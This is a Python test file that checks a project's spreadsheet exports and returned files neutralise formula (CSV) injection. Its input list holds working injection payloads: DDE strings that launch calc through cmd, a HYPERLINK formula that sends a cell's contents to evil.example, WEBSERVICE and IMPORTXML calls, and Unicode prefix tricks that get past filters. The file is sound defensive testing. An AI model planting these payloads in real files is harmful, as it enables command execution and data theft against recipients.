"""Nothing that somebody wrote runs as a formula in a table we hand out: exports, returned files, templates, headings."""

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from uuid import uuid4

import openpyxl
import pytest

from jingwei.foundation.imports.contracts import FileFormat
from jingwei.foundation.imports.contracts.exports import Language, TakenColumn
from jingwei.foundation.imports.rules.texts import escaped, unescaped
from jingwei.foundation.imports.services.export_books import Mark, write_book
from jingwei.foundation.imports.services.workbooks import Line, write_file
from tests.cast import MONDAY_10
from tests.house.walls import ROOT

RUN = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example?"&A1,"open")',
    ),
    *(
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "\u200e=1+1",
    ),
    *(
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(A1)",
        "'=1+1",
        "''=1+1",
        '=IMPORTXML("http://e.example","//a")',
    ),
    *(
        '=WEBSERVICE("http://e.example")',
        "-2+3+cmd|' /C calc'!A0",
        '@SUM(1+1)*cmd|" /C calc"!A0',
        "=\n1+1",
        "{=1+1}"[1:],
    ),
]
STARTS = re.compile(r"[\s\u200b-\u200f\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")


def runs(text: object) -> bool:
    """Whether a spreadsheet could take it for a formula."""
    return isinstance(text, str) and bool(STARTS.match(text))


@pytest.fixture(params=FileFormat, ids=lambda one: one.value)
def returned(request: pytest.FixtureRequest) -> bytes:
    """A returned file with something that runs in every place that takes text."""
    lines = [Line([text, "a", text], {0: text}) for text in RUN]
    out = write_file(
        RUN[0],
        [RUN[0], "名称", RUN[3]],
        lines,
        file_format=request.param,
        header_notes={0: RUN[4]},
        extra_sheets=[(RUN[1], [[RUN[0], RUN[1]], [RUN[2], RUN[3]]])],
    )
    return b"".join(out.pieces())


def texts_in(content: bytes) -> Iterator[object]:
    if not content.startswith(b"PK"):
        yield from (cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row)
        return
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.coordinate
                assert cell.hyperlink is None
                yield cell.value
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        for name in parts.namelist():
            assert not re.search(rb"<(?:\w+:)?f[ >/]", parts.read(name)), f"a formula in {name}"
            assert "externalLink" not in name


def test_a_returned_file_runs_nothing(returned: bytes) -> None:
    found = list(texts_in(returned))
    assert len(found) > 2 * len(RUN)
    assert [text for text in found if runs(text)] == []


def test_an_export_runs_nothing(tmp_path: Path) -> None:
    columns = [TakenColumn(name, RUN[n], RUN[n + 1]) for n, name in enumerate(("a", "b"))]
    mark = Mark(
        export_id=uuid4(),
        title=RUN[0],
        who=RUN[5],
        at=MONDAY_10,
        purpose=RUN[4],
        wish=RUN[2],
        consent=RUN[3],
        is_clear=True,
        language=Language.ZH,
    )
    path = tmp_path / "out.xlsx"
    assert write_book(path, columns, ([text, text] for text in RUN), mark, beat=lambda: None) == len(RUN)
    found = list(texts_in(path.read_bytes()))
    assert len(found) > 2 * len(RUN)
    assert [text for text in found if runs(text)] == []


@pytest.mark.parametrize("text", RUN)
def test_what_was_escaped_comes_back_as_it_was(text: str) -> None:
    assert not runs(escaped(text))
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize("text", ["三里桥", "a=b", "5-3", "1", "it's", "'quoted'", "（=）", ""])
def test_what_runs_nothing_is_left_alone(text: str) -> None:
    assert escaped(text) == text


WRITERS = {
    "jingwei/foundation/imports/services/workbooks.py",
    "jingwei/foundation/imports/services/export_books.py",
}


def test_tables_are_written_by_these_two_and_nobody_else() -> None:
    writing = re.compile(
        r"csv\.(?:writer|DictWriter)|^\s*(?:from|import) (?:openpyxl|xlsxwriter|xlwt|pandas)", re.MULTILINE
    )
    found = {
        path.relative_to(ROOT).as_posix()
        for path in (ROOT / "jingwei").rglob("*.py")
        if "tests" not in path.parts and writing.search(path.read_text(encoding="utf-8"))
    }
    assert found == WRITERS, "Tables go out through `write_file` and `write_book`: they escape formulas."
